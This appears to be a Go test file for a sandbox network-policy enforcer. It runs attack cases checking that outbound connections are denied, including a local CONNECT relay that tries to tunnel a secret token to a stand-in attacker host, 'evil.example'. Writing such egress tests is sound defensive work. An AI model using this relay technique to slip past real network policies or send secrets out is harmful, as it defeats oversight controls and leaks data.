//go:build linux

package gauntlet

import (
	"bufio"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"path/filepath"
	"strings"
)

// unaskedRows reach for what others allow without having been asked, and for what somebody else may reach.
func unaskedRows() []Row {
	enforce := []string{"--mode", "enforce"}
	evilToo := []string{"--mode", "enforce", "--allow", Evil.String() + ":80"}
	toEvil := func(a *Attacker) error { return a.tellTCP(at(Evil, 80)) }
	denied := []string{"network-connect verdict=deny dest_ip=203.0.113.66 dest_port=80 reason=default"}
	return []Row{
		{
			ID: "reach/nothing-listed", Vector: "go anywhere under a policy in force that lists nothing", Right: "nothing listed is nothing allowed",
			Source: "Docker MCP Gateway (--block-network); superserve PR #234", Rules: enforce, Lifted: evilToo,
			Prepare: withPolicy("apps:\n  gauntlet:\n    allow: []\n"), Attack: toEvil, Harm: Heard, Record: denied,
		},
		{
			ID: "reach/hidden-allow", Vector: "a server that everybody knows, and that others allow by themselves", Right: "no rule is there that nobody wrote",
			Source: "sbx #72; Daytona #3945", Lifted: []string{"--allow", Google.String() + ":80"},
			Attack: func(a *Attacker) error { return a.tellTCP(at(Google, 80)) }, Harm: Heard,
			Record: []string{"network-connect verdict=deny dest_ip=8.8.8.8 dest_port=80"},
		},
		{
			ID: "reach/other-apps-rules", Vector: "what the policy file allows another app", Right: "rules are those of the app that they stand under",
			Source: "ToolHive #1008; sbx #91", Rules: enforce, Lifted: evilToo,
			Prepare: withPolicy(fmt.Sprintf("apps:\n  gauntlet:\n    allow: [shop.example]\n  other:\n    allow: [%q]\n", Evil.String()+":80")),
			Attack:  toEvil, Harm: Heard, Record: denied,
		},
		{
			ID: "reach/relay-inside", Vector: "CONNECT through a proxy of its own, on its own loopback", Right: "whoever dials is judged",
			Source: "claude-code #87381", Lifted: []string{"--allow", Evil.String() + ":80"},
			Attack: (*Attacker).throughOwnRelay, Harm: Heard, Record: denied,
		},
	}
}

// withPolicy is a Prepare: weir reads this policy file.
func withPolicy(text string) func(*Stage) error {
	return func(s *Stage) error {
		path := filepath.Join(s.Dir, "weir.yaml")
		s.Flags = []string{"-f", path}
		return os.WriteFile(path, []byte("version: 1\n"+text), 0o644)
	}
}

// throughOwnRelay starts a proxy beside itself and says the token to evil.example through that.
func (a *Attacker) throughOwnRelay() error {
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		return err
	}
	defer ln.Close()
	go relay(ln)
	c, err := dial("tcp", ln.Addr().String())
	if err != nil {
		return err
	}
	defer c.Close()
	fmt.Fprintf(c, "CONNECT %[1]s HTTP/1.1\r\nHost: %[1]s\r\n\r\n", at(Evil, 80))
	answer := make([]byte, 256)
	n, err := c.Read(answer)
	if err != nil || !strings.Contains(string(answer[:n]), " 200 ") {
		return fmt.Errorf("connect through relay: %q: %w", answer[:n], err)
	}
	return tell(c, a.Token+"\n")
}

// relay is a proxy for the first one who asks.
func relay(ln net.Listener) {
	c, err := ln.Accept()
	if err != nil {
		return
	}
	defer c.Close()
	request, err := http.ReadRequest(bufio.NewReader(c))
	if err != nil {
		return
	}
	far, err := dial("tcp", request.Host)
	if err != nil {
		fmt.Fprintf(c, "HTTP/1.1 502 %v\r\n\r\n", err)
		return
	}
	defer far.Close()
	io.WriteString(c, "HTTP/1.1 200 OK\r\n\r\n")
	go io.Copy(far, c)
	io.Copy(c, far)
}
